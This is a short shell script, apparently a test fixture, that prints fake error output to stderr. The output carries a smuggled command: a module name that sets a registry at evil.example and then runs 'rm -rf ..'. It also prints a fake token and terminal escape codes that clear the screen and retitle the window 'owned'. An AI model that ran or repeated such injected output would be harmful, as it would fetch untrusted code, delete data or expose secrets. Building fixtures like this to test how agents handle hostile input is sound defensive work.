# Says what somebody says who wants something to be run, shown or kept.
printf "Error: Cannot find module 'left-pad --registry=http://evil.example; rm -rf ..'\n" >&2
printf 'token=ghp_0123456789abcdefghijABCDEFGHIJ012345 \033[2J\033]0;owned\007\n' >&2
exit 1
